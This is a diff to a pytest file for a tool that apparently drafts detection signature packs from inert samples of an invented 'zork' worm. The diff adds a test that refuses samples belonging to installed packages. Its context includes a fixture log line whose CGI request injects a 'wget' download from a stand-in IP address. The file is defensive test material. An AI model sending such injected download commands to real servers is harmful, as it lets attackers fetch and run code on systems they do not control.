@@ -27,6 +27,11 @@ REQUEST = "GET /cgi-bin/zork.cgi?c=wget+http://203.0.113.9/z HTTP/1.1"
 LINE = f'198.51.100.9 - - [21/Nov/2026:10:00:00 +0000] "{REQUEST}" 404 1 "-" "-"\n'
 
 
+class Packaged(Nothing):
+    def knows(self, text: bytes) -> bool:
+        return text.startswith(b"file md5 ")
+
+
 @pytest.fixture
 def evidence(tmp_path: Path) -> Path:
     """Three inert samples and one log line of an invented worm, and clean files that hold one of its strings."""
@@ -127,6 +132,11 @@ def test_what_can_not_be_drafted_is_refused_with_the_reason(evidence: Path) -> N
     (evidence / "clean/copy").write_bytes((evidence / "bad/zorkd-1").read_bytes())
     with pytest.raises(WrongUse, match="is the same as the sample zorkd-1"):
         draft(evidence)
+    order = DraftOrder(
+        name="zork", sources=(Source(str(evidence / "bad/zorkd-0")),), goodware=Packaged(), today=date(2026, 11, 22)
+    )
+    with pytest.raises(WrongUse, match="zorkd-0: is a file of an installed package"):
+        draft_pack(order)
     for name in ("Bad Name", "../up", "x" * 41, "-a"):
         with pytest.raises(WrongUse, match="no name for a pack"):
             draft(evidence, name=name)
